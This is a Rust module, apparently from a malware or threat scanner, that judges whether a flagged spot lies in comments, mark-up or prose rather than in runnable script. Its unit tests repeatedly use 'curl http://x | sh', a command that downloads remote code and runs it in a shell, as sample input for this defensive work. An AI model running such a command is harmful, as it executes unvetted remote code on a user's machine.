//! Which text is code and which only talks about code. A document downgrades what is found in it; it never hides it.

use model::FileKind;

use crate::detectors::Sample;

/// How much is read to each side to tell a document from code.
const WINDOW_BYTES: usize = 3000;

/// Kinds that scripts and config text come as.
pub(crate) const TEXT_KINDS: &[FileKind] = &[FileKind::Script, FileKind::Text, FileKind::Utf16];

/// Whether a line is nothing but a comment in some common language.
pub(crate) fn is_comment(line: &str) -> bool {
    let line = line.trim_start();
    ["#", "//", "/*", "* ", "--", ";", "<!--", "%", "'", ".\\\"", "> ", "dnl ", "rem ", "REM "]
        .iter()
        .any(|mark| line.starts_with(mark))
        && !line.starts_with("#!")
}

/// Whether what stands at `offset` is read by people and not run: a comment line, or, in a file without `#!`, text
/// with mark-up or sentences close by.
pub(crate) fn is_document(sample: &Sample<'_>, offset: usize) -> bool {
    let (_, line) = sample.line(offset, 1024);
    if is_comment(&String::from_utf8_lossy(line)) {
        return true;
    }
    if sample.kind == FileKind::Script {
        return false;
    }
    let (_, near) = sample.around(offset, WINDOW_BYTES, WINDOW_BYTES);
    let near = String::from_utf8_lossy(near);
    has_mark_up(&near) || is_prose(&near)
}

fn has_mark_up(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let marks = [
        "```",
        "</p>",
        "</a>",
        "</code>",
        "</pre>",
        "</li>",
        "</td>",
        "</div>",
        "</span>",
        "<p>",
        "<br",
        "\n.sh ",
        "\n.tp\n",
        "\n.pp\n",
        "\n.. code",
        "::\n\n",
        "\n=====",
        "\n-----",
        "\n## ",
        "\n### ",
        "](http",
        "@example",
        "\\fb",
        "@end ",
        "<?xml",
        "&lt;",
        "&gt;",
        "&amp;",
        "\n----\n",
        "\\n\\n```",
        "\"\"\"",
        "reference:url",
        "classtype:",
    ];
    marks.iter().any(|mark| lower.contains(mark))
}

/// At least three lines that are sentences, and a fifth of all lines that are no comments.
fn is_prose(text: &str) -> bool {
    let mut sentences = 0;
    let mut lines = 0;
    for line in text.lines().map(str::trim).filter(|line| !line.is_empty() && !is_comment(line)) {
        lines += 1;
        let words = line.split_ascii_whitespace();
        let (plain, all) = words.fold((0, 0), |(plain, all), word| {
            let letters = word.trim_end_matches([',', '.', ':', ';', '?', '!', ')']).trim_start_matches('(');
            (plain + usize::from(!letters.is_empty() && letters.bytes().all(|b| b.is_ascii_alphabetic())), all + 1)
        });
        sentences += usize::from(plain >= 6 && plain * 4 >= all * 3);
    }
    sentences >= 3 && sentences * 5 >= lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(kind: FileKind, text: &str, at: &str) -> bool {
        let sample = Sample { bytes: text.as_bytes(), kind, hits: &[], place: None };
        is_document(&sample, text.find(at).expect("the text holds it"))
    }

    #[test]
    fn a_manual_is_a_document_and_a_script_is_not() {
        assert!(judge(FileKind::Text, "Use it like this:\n\n```sh\ncurl http://x | sh\n```\n", "curl"));
        assert!(judge(FileKind::Script, "#!/bin/sh\n  # curl http://x | sh\n", "curl"));
        assert!(!judge(FileKind::Script, "#!/bin/sh\ncurl http://x | sh # ```\n", "curl"));
        assert!(!judge(
            FileKind::Text,
            "cd /tmp\n# a long sentence of many plain words is here\ncurl http://x | sh\n",
            "curl"
        ));
        let prose = "this is how a person would write many words\n".repeat(4);
        assert!(judge(FileKind::Text, &format!("{prose}curl http://x | sh\n"), "curl"));
    }
}
